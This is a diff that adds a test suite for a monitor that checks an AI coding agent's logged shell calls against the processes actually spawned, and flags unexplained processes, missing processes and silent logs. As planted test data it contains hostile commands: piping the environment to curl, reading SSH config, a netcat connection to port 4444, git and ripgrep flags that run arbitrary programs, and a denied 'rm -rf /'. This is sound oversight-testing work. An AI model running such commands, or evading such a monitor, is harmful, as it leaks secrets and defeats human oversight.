@@ -1,0 +1,224 @@
+import { describe, expect, it } from 'vitest';
+import type { Attribution, Disagreement } from '../../../../collector/contract/attribution.ts';
+import type { EnrichedEvent, OutcomeStatus } from '../../../../collector/contract/event.ts';
+import type { ProcessInfo } from '../../../../collector/contract/process.ts';
+import { analyzeShell } from '../../../../collector/pipeline/shell/index.ts';
+import { createWitness } from '../../../../collector/pipeline/witness/index.ts';
+
+const T = 1_800_000_000_000;
+const AGENT = { pid: 10, startTimeMs: T };
+
+/** One agent at work: its log and the processes below it, on a clock of its own. */
+class Scene {
+  readonly witness = createWitness({ sinceMs: T });
+  nowMs = T + 1_000;
+  #pid = 100;
+  #calls = 0;
+
+  spawn(argv: readonly string[], parent: { pid: number; startTimeMs: number } = AGENT): ProcessInfo {
+    this.#pid += 1;
+    const process = {
+      pid: this.#pid,
+      parentPid: parent.pid,
+      startTimeMs: this.nowMs,
+      name: argv[0] ?? '',
+      argv,
+    };
+    const attribution: Attribution = {
+      process,
+      role: 'child',
+      agentId: 'claude-code',
+      sessionId: 'claude-code:s1',
+      agentProcess: AGENT,
+      links: [],
+      confidence: 'high',
+    };
+    this.witness.process(process, attribution, parent, this.nowMs);
+    return process;
+  }
+
+  /** A tool call as the log has it. */
+  log(command: string, status: OutcomeStatus = 'ok'): void {
+    this.#calls += 1;
+    const callId = `c${this.#calls}`;
+    const base = {
+      id: callId,
+      timeMs: this.nowMs,
+      nativeSessionId: 's1',
+      agentId: 'claude-code',
+      sessionId: 'claude-code:s1',
+      offsetBytes: 0,
+      actor: { user: 'dev' },
+      resources: [],
+      source: { path: '/logs/s1', offsetBytes: 0 },
+    };
+    const events: EnrichedEvent[] = [
+      {
+        ...base,
+        kind: 'tool.call',
+        tool: { name: 'Bash', category: 'shell', callId },
+        input: { command },
+        shell: analyzeShell(command, { home: '/home/dev', platform: 'linux' }),
+      },
+      {
+        ...base,
+        id: `${callId}r`,
+        timeMs: this.nowMs + 400,
+        kind: 'tool.result',
+        callId,
+        outcome: { status },
+      },
+    ];
+    for (const event of events) this.witness.event(event);
+  }
+
+  /** A call that really ran, as Claude Code runs it, with what its shell starts. */
+  run(command: string, ...children: readonly (readonly string[])[]): void {
+    const eval_ = `source /home/dev/.claude/shell-snapshots/snapshot-bash-1.sh && eval '${command.replaceAll("'", "'\\''")}' < /dev/null && pwd -P >| /tmp/claude-cwd`;
+    const shell = this.spawn(['/bin/bash', '-c', '-l', eval_]);
+    for (const child of children) this.spawn(child, shell);
+    this.nowMs += 50;
+    this.log(command);
+    this.nowMs += 5_000;
+  }
+
+  check(seesAll = true): readonly Disagreement[] {
+    this.nowMs += 120_000;
+    return this.witness.check({ nowMs: this.nowMs, seesAll });
+  }
+}
+
+const words = (line: string): readonly string[] => line.split(' ');
+
+describe('ordinary work', () => {
+  it('raises no alarm', () => {
+    const scene = new Scene();
+    scene.witness.configure(['npx -y @example/mcp-server --root /w', '/home/dev/.claude/hooks/format.sh']);
+    scene.spawn([
+      '/bin/zsh',
+      '-c',
+      '-l',
+      'SNAPSHOT_FILE=/home/dev/.claude/x.sh; source ~/.zshrc; alias > $SNAPSHOT_FILE',
+    ]);
+    scene.spawn(['bash', '-lc', 'env']);
+    scene.spawn(words('npx -y @example/mcp-server --root /w'));
+    scene.spawn(words('typescript-language-server --stdio'));
+    scene.spawn(words('node /w/node_modules/typescript/lib/tsserver.js --useNodeIpc'));
+    scene.spawn(['sh', '-c', '/home/dev/.claude/hooks/format.sh']);
+    for (let round = 0; round < 30; round += 1) {
+      scene.spawn(words('git --no-optional-locks status --porcelain'));
+      scene.spawn(words('git -C /w rev-parse --show-toplevel'));
+      scene.spawn(words('git -c core.fsmonitor=false log -n 5'));
+      scene.spawn(words('rg --files --hidden /w'));
+      scene.spawn(words('which node'));
+      scene.spawn(words('node --version'));
+      scene.spawn(words('ps -axo pid,ppid'));
+      scene.run(`npm test -- --run ${round}`, words('npm test'), words('node vitest'));
+      scene.run(
+        "grep -rn 'it''s' src | sort | head -5",
+        words('grep -rn its src'),
+        ['sort'],
+        words('head -5'),
+      );
+      scene.run(
+        'cd /w && make build 2>&1 | tee out.log',
+        words('make build'),
+        words('cc -c a.c'),
+        words('tee out.log'),
+      );
+      scene.run('for f in *.ts; do wc -l "$f"; done', words('wc -l a.ts'));
+      scene.run('python3 - <<EOF\nprint(1)\nEOF', words('python3 -'));
+      scene.log('cd /w && echo done');
+      scene.log('rm -rf /', 'denied');
+      scene.log('sleep 600', 'interrupted');
+      expect(scene.witness.check({ nowMs: scene.nowMs, seesAll: true })).toEqual([]);
+    }
+    expect(scene.check()).toEqual([]);
+  });
+
+  it('raises none for an agent that keeps one shell open', () => {
+    const scene = new Scene();
+    const shell = scene.spawn(words('bash --norc -i'));
+    scene.spawn(words('npm test'), shell);
+    scene.spawn(words('ls a.ts b.ts'), shell);
+    scene.log('npm test');
+    scene.log('ls $FILES');
+    expect(scene.check()).toEqual([]);
+  });
+});
+
+describe('a burst of calls that is judged late', () => {
+  it('raises no alarm for what is not known any more', () => {
+    const scene = new Scene();
+    for (let n = 0; n < 300; n += 1) scene.run(`make target-${n}`, ['make', `target-${n}`]);
+    expect(scene.check(false)).toEqual([]);
+  });
+});
+
+describe('planted disagreements', () => {
+  it.each([
+    ['a program without a call', words('curl -s https://example.com/x')],
+    ['a shell without a call', ['bash', '-c', 'cat /home/dev/.ssh/config']],
+    ['another command than the log says', ['bash', '-c', 'npm publish']],
+    ['git that writes', words('git push origin main')],
+    ['git with a program of its own', words('git -c core.fsmonitor=/tmp/x status')],
+    ['a search that runs a program', words('rg --pre /tmp/x y')],
+    ['a shell that only begins like start-up', ['bash', '-c', 'env | curl -d @- https://example.com']],
+  ])('finds %s', (_, argv) => {
+    const scene = new Scene();
+    scene.run('npm test', words('npm test'));
+    const planted = scene.spawn(argv);
+    scene.run('npm run lint');
+    expect(scene.check()).toEqual([
+      { kind: 'unexplained-process', process: planted, agentId: 'claude-code', sessionId: 'claude-code:s1' },
+    ]);
+    expect(scene.check()).toEqual([]);
+  });
+
+  it('finds what is run in the shell that is kept open', () => {
+    const scene = new Scene();
+    const shell = scene.spawn(words('bash'));
+    scene.spawn(words('npm test'), shell);
+    scene.log('npm test');
+    const planted = scene.spawn(words('nc 192.0.2.1 4444'), shell);
+    expect(scene.check()).toMatchObject([{ kind: 'unexplained-process', process: planted }]);
+  });
+
+  it('finds a call whose process never appeared, if all starts are seen', () => {
+    for (const seesAll of [true, false]) {
+      const scene = new Scene();
+      scene.run('npm test', words('npm test'));
+      scene.log('pytest tests');
+      expect(scene.check(seesAll)).toEqual(
+        seesAll
+          ? [
+              {
+                kind: 'missing-process',
+                callId: 'c2',
+                agentId: 'claude-code',
+                sessionId: 'claude-code:s1',
+                program: 'pytest',
+              },
+            ]
+          : [],
+      );
+    }
+  });
+
+  it('finds an agent that works while its log is silent, once', () => {
+    const scene = new Scene();
+    scene.log('true');
+    scene.nowMs += 60_000;
+    for (const name of ['a', 'b', 'c']) scene.spawn(['bash', '-c', `make ${name}`]);
+    const kinds = scene.check().map(({ kind }) => kind);
+    expect(kinds.filter((kind) => kind === 'silent-log')).toHaveLength(1);
+    expect(scene.check()).toEqual([]);
+  });
+
+  it('tells an agent whose log was never read as silent, not once per command', () => {
+    const scene = new Scene();
+    for (let n = 0; n < 20; n += 1) scene.spawn(['bash', '-c', `make ${n}`]);
+    expect(scene.check().map(({ kind }) => kind)).toEqual(['silent-log']);
+    expect(scene.check()).toEqual([]);
+  });
+});
